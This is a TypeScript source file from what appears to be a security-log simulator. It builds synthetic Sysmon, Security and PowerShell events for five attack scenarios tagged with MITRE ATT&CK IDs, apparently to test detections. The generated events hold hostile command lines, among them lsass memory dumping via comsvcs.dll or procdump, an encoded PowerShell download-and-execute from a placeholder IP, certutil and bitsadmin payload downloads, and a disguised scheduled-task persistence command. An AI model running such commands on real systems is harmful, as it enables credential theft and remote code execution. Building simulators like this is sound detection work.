/**
 * Attack scenarios the simulator mixes into benign activity. Each one is a short chain of events
 * on one host, built on the host's real process tree, so parent/child links stay consistent.
 */
import { CHANNEL, PROVIDER, SERVICE_INSTALL_FIELDS } from './catalog.js';
import type { Random } from './prng.js';
import type { WinlogbeatDoc } from './types.js';
import { IMAGES, SYSTEM_USER, securityMessage, sysmonTime, type Host, type Proc, type User, type World } from './world.js';

/** The attack scenarios the simulator knows. */
export const SCENARIOS = ['credential_dumping', 'encoded_powershell', 'psexec', 'scheduled_task', 'lolbin_download'] as const;
export type ScenarioName = (typeof SCENARIOS)[number];

/** MITRE ATT&CK technique of each scenario. */
export const SCENARIO_TECHNIQUE: Readonly<Record<ScenarioName, string>> = {
  credential_dumping: 'T1003.001',
  encoded_powershell: 'T1059.001',
  psexec: 'T1569.002',
  scheduled_task: 'T1053.005',
  lolbin_download: 'T1105',
};

/** One step of a scenario: builds its document when its time comes. */
export type Step = (ms: number) => WinlogbeatDoc;

/** Events per run of each scenario (turns an event rate into a start rate). */
export const SCENARIO_LENGTH: Readonly<Record<ScenarioName, number>> = {
  credential_dumping: 4,
  encoded_powershell: 3,
  psexec: 7,
  scheduled_task: 4,
  lolbin_download: 4,
};

/**
 * The steps of one run of `name` on a host chosen by the scenario.
 * @example const steps = scenarioSteps(world, 'psexec'); const first = steps[0]!(Date.now());
 */
export function scenarioSteps(world: World, name: ScenarioName): Step[] {
  const r = world.random;
  const workstations = world.hosts.filter((h) => h.kind === 'WKS');
  const host = r.pick(workstations.length ? workstations : world.hosts);
  const user = host.user ?? r.pick(world.users);
  switch (name) {
    case 'credential_dumping':
      return credentialDumping(world, host, user, r);
    case 'encoded_powershell':
      return encodedPowershell(world, host, user, r);
    case 'psexec':
      return psexec(world, host, user, r);
    case 'scheduled_task':
      return scheduledTask(world, host, user, r);
    case 'lolbin_download':
      return lolbinDownload(world, host, user, r);
  }
}

/** An elevated cmd.exe under explorer (or services on a server): where most attacks start. */
function shell(world: World, host: Host, user: User, ms: number): Proc {
  const parent = host.core.explorer ?? host.core.services;
  return world.newProc(host, IMAGES.cmd, '"C:\\Windows\\system32\\cmd.exe" ', parent, user, false, 'High', ms);
}

function credentialDumping(world: World, host: Host, user: User, r: Random): Step[] {
  const lsass = host.core.lsass;
  const useComsvcs = r.chance(0.5);
  const dump = useComsvcs ? `C:\\Windows\\Temp\\${r.hex(6).toLowerCase()}.dmp` : 'C:\\Users\\Public\\lsass.dmp';
  let sh: Proc | undefined;
  let tool: Proc | undefined;
  return [
    (ms) => {
      sh = shell(world, host, user, ms);
      return world.processCreate(host, sh, ms);
    },
    (ms) => {
      tool = useComsvcs
        ? world.newProc(host, IMAGES.rundll32, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${lsass.pid} ${dump} full`, sh, user, false, 'High', ms)
        : world.newProc(host, IMAGES.procdump, `procdump64.exe -accepteula -ma lsass.exe ${dump}`, sh, user, false, 'High', ms);
      return world.processCreate(host, tool, ms);
    },
    (ms) => {
      const t = tool!;
      const trace = useComsvcs
        ? 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3f4e1|C:\\Windows\\System32\\rundll32.exe+3bd4'
        : 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6b6e|C:\\Users\\Public\\procdump64.exe+1e2a1';
      return world.sysmon(host, 10, {
        SourceProcessGuid: t.guid,
        SourceProcessId: String(t.pid),
        SourceThreadId: String(r.int(1000, 9000)),
        SourceImage: t.image.path,
        TargetProcessGuid: lsass.guid,
        TargetProcessId: String(lsass.pid),
        TargetImage: lsass.image.path,
        GrantedAccess: '0x1FFFFF',
        CallTrace: trace,
        SourceUser: t.user,
        TargetUser: 'NT AUTHORITY\\SYSTEM',
      }, ms);
    },
    (ms) => fileCreate(world, host, tool!, dump, ms),
  ];
}

function encodedPowershell(world: World, host: Host, user: User, r: Random): Step[] {
  const c2 = `198.51.100.${r.int(2, 250)}`;
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${c2}/a.ps1')`;
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  let ps: Proc | undefined;
  return [
    (ms) => {
      const parent = host.core.explorer ?? host.core.services;
      ps = world.newProc(host, IMAGES.powershell, `powershell.exe -NoP -NonI -W Hidden -enc ${encoded}`, parent, user, false, 'Medium', ms);
      return world.processCreate(host, ps, ms);
    },
    (ms) => scriptBlock(world, host, ps!, user, script, 3, ms),
    (ms) => httpConnect(world, host, ps!, c2, ms),
  ];
}

function psexec(world: World, host: Host, user: User, r: Random): Step[] {
  const sources = world.hosts.filter((h) => h !== host);
  const from = sources.length ? r.pick(sources) : host;
  const system = host.core.system;
  let svc: Proc | undefined;
  let child: Proc | undefined;
  const logonId = `0x${r.hex(6).toLowerCase()}`;
  return [
    (ms) => {
      const values = {
        SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0',
        TargetUserSid: user.sid, TargetUserName: user.name, TargetDomainName: user.domain, TargetLogonId: logonId,
        LogonType: '3', LogonProcessName: 'NtLmSsp ', AuthenticationPackageName: 'NTLM', WorkstationName: from.name,
        LogonGuid: '{00000000-0000-0000-0000-000000000000}', TransmittedServices: '-', LmPackageName: 'NTLM V2', KeyLength: '128',
        ProcessId: '0x0', ProcessName: '-', IpAddress: from.ip, IpPort: String(r.int(49152, 65535)), ImpersonationLevel: '%%1833',
        RestrictedAdminMode: '-', TargetOutboundUserName: '-', TargetOutboundDomainName: '-', VirtualAccount: '%%1843',
        TargetLinkedLogonId: '0x0', ElevatedToken: '%%1842',
      };
      return world.security(host, 4624, values, logonMessage(values), ms);
    },
    (ms) => fileCreate(world, host, system, IMAGES.psexesvc.path, ms),
    (ms) => {
      const values: Record<(typeof SERVICE_INSTALL_FIELDS)[number], string> = {
        ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem',
      };
      return serviceInstall(world, host, values, ms);
    },
    (ms) => {
      svc = world.newProc(host, IMAGES.psexesvc, 'C:\\Windows\\PSEXESVC.exe', host.core.services, SYSTEM_USER, false, 'System', ms);
      return world.processCreate(host, svc, ms);
    },
    (ms) => pipe(world, host, 17, svc!, '\\PSEXESVC', ms),
    (ms) => pipe(world, host, 18, system, '\\PSEXESVC', ms),
    (ms) => {
      child = world.newProc(host, IMAGES.cmd, '"cmd.exe" ', svc, user, false, 'High', ms);
      return world.processCreate(host, child, ms);
    },
  ];
}

function scheduledTask(world: World, host: Host, user: User, r: Random): Step[] {
  const task = r.pick(['WindowsUpdateCheck', 'OneDriveSync', 'AdobeFlashSync', 'GoogleUpdaterCore']);
  const payload = `C:\\Users\\${user.name}\\AppData\\Roaming\\${task.toLowerCase()}.exe`;
  let sh: Proc | undefined;
  let st: Proc | undefined;
  return [
    (ms) => {
      sh = shell(world, host, user, ms);
      return world.processCreate(host, sh, ms);
    },
    (ms) => {
      st = world.newProc(host, IMAGES.schtasks, `schtasks  /create /sc onlogon /tn "${task}" /tr "${payload}" /ru SYSTEM /f`, sh, user, false, 'High', ms);
      return world.processCreate(host, st, ms);
    },
    (ms) => fileCreate(world, host, host.core.svchost, `C:\\Windows\\System32\\Tasks\\${task}`, ms),
    (ms) => {
      const svc = host.core.svchost;
      return world.sysmon(host, 13, {
        EventType: 'SetValue', ProcessGuid: svc.guid, ProcessId: String(svc.pid), Image: svc.image.path,
        TargetObject: `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\${task}\\Index`,
        Details: 'DWORD (0x00000003)', User: 'NT AUTHORITY\\SYSTEM',
      }, ms);
    },
  ];
}

function lolbinDownload(world: World, host: Host, user: User, r: Random): Step[] {
  const server = `203.0.113.${r.int(2, 250)}`;
  const file = `C:\\Users\\Public\\${r.pick(['update', 'svc', 'invoice', 'setup'])}.exe`;
  const bits = r.chance(0.4);
  let sh: Proc | undefined;
  let tool: Proc | undefined;
  return [
    (ms) => {
      sh = shell(world, host, user, ms);
      return world.processCreate(host, sh, ms);
    },
    (ms) => {
      tool = bits
        ? world.newProc(host, IMAGES.bitsadmin, `bitsadmin /transfer job${r.int(1, 99)} /download /priority normal http://${server}/payload.exe ${file}`, sh, user, false, 'High', ms)
        : world.newProc(host, IMAGES.certutil, `certutil.exe -urlcache -split -f http://${server}/payload.exe ${file}`, sh, user, false, 'High', ms);
      return world.processCreate(host, tool, ms);
    },
    (ms) => httpConnect(world, host, tool!, server, ms),
    (ms) => fileCreate(world, host, tool!, file, ms),
  ];
}

/**
 * Sysmon 11 by a process.
 * @example fileCreate(world, host, host.core.svchost, 'C:\\Windows\\System32\\Tasks\\OneDriveSync', Date.now())
 */
export function fileCreate(world: World, host: Host, p: Proc, target: string, ms: number): WinlogbeatDoc {
  return world.sysmon(host, 11, {
    ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image.path, TargetFilename: target, CreationUtcTime: sysmonTime(ms), User: p.user,
  }, ms);
}

/** Sysmon 3: a process fetches over plain HTTP from `server` (a payload or C2 address). */
function httpConnect(world: World, host: Host, p: Proc, server: string, ms: number): WinlogbeatDoc {
  return world.sysmon(host, 3, {
    ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image.path, User: p.user, Protocol: 'tcp', Initiated: 'true',
    SourceIsIpv6: 'false', SourceIp: host.ip, SourceHostname: host.fqdn, SourcePort: String(world.random.int(49152, 65535)),
    DestinationIsIpv6: 'false', DestinationIp: server, DestinationPort: '80', DestinationPortName: 'http',
  }, ms);
}

/**
 * Sysmon 17/18 by a process.
 * @example pipe(world, host, 17, svc, '\\PSEXESVC', Date.now()) // Sysmon 17, EventType 'CreatePipe'
 */
export function pipe(world: World, host: Host, eventId: 17 | 18, p: Proc, name: string, ms: number): WinlogbeatDoc {
  return world.sysmon(host, eventId, {
    EventType: eventId === 17 ? 'CreatePipe' : 'ConnectPipe', ProcessGuid: p.guid, ProcessId: String(p.pid), PipeName: name, Image: p.image.path, User: p.user,
  }, ms);
}

/**
 * System 7045: a service was installed.
 * @example serviceInstall(world, host, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }, Date.now())
 */
export function serviceInstall(world: World, host: Host, v: Record<(typeof SERVICE_INSTALL_FIELDS)[number], string>, ms: number): WinlogbeatDoc {
  const message =
    `A service was installed in the system.\n\nService Name:  ${v.ServiceName}\nService File Name:  ${v.ImagePath}\n` +
    `Service Type:  ${v.ServiceType}\nService Start Type:  ${v.StartType}\nService Account:  ${v.AccountName}`;
  return world.doc(host, {
    channel: CHANNEL.system, eventId: 7045, provider: PROVIDER.scm, task: 'None', level: 4, version: 0, message,
    eventData: { ...v }, user: SYSTEM_USER, pid: host.core.services.pid,
  }, ms);
}

/**
 * PowerShell 4104: a script block was logged (warning level when suspicious, as PowerShell does).
 * @example scriptBlock(world, host, ps, user, "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", 3, Date.now()) // level 3: warning
 */
export function scriptBlock(world: World, host: Host, p: Proc, user: User, text: string, level: number, ms: number): WinlogbeatDoc {
  const id = `${world.random.hex(8)}-${world.random.hex(4)}-${world.random.hex(4)}-${world.random.hex(4)}-${world.random.hex(12)}`.toLowerCase();
  const message = `Creating Scriptblock text (1 of 1):\n${text}\n\nScriptBlock ID: ${id}\nPath: `;
  return world.doc(host, {
    channel: CHANNEL.powershell, eventId: 4104, provider: PROVIDER.powershell, task: 'Execute a Remote Command', level, version: 1, message,
    eventData: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: text, ScriptBlockId: id, Path: '' }, user, pid: p.pid,
  }, ms);
}

/**
 * The rendered message of a 4624 from its EventData.
 * @example logonMessage({ TargetUserName: 'alice', LogonType: '3', IpAddress: '10.0.0.12' }).split('\n')[0] // => 'An account was successfully logged on.'
 */
export function logonMessage(v: Record<string, string>): string {
  return securityMessage('An account was successfully logged on.', [
    ['Subject', [['Security ID', v.SubjectUserSid ?? '-'], ['Account Name', v.SubjectUserName ?? '-'], ['Account Domain', v.SubjectDomainName ?? '-'], ['Logon ID', v.SubjectLogonId ?? '-']]],
    ['Logon Information', [['Logon Type', v.LogonType ?? '-'], ['Restricted Admin Mode', v.RestrictedAdminMode ?? '-'], ['Virtual Account', 'No'], ['Elevated Token', 'Yes']]],
    ['New Logon', [['Security ID', v.TargetUserSid ?? '-'], ['Account Name', v.TargetUserName ?? '-'], ['Account Domain', v.TargetDomainName ?? '-'], ['Logon ID', v.TargetLogonId ?? '-'], ['Logon GUID', v.LogonGuid ?? '-']]],
    ['Process Information', [['Process ID', v.ProcessId ?? '-'], ['Process Name', v.ProcessName ?? '-']]],
    ['Network Information', [['Workstation Name', v.WorkstationName ?? '-'], ['Source Network Address', v.IpAddress ?? '-'], ['Source Port', v.IpPort ?? '-']]],
    ['Detailed Authentication Information', [['Logon Process', v.LogonProcessName ?? '-'], ['Authentication Package', v.AuthenticationPackageName ?? '-'], ['Transited Services', v.TransmittedServices ?? '-'], ['Package Name (NTLM only)', v.LmPackageName ?? '-'], ['Key Length', v.KeyLength ?? '-']]],
  ], 'This event is generated when a logon session is created. It is generated on the computer that was accessed.');
}
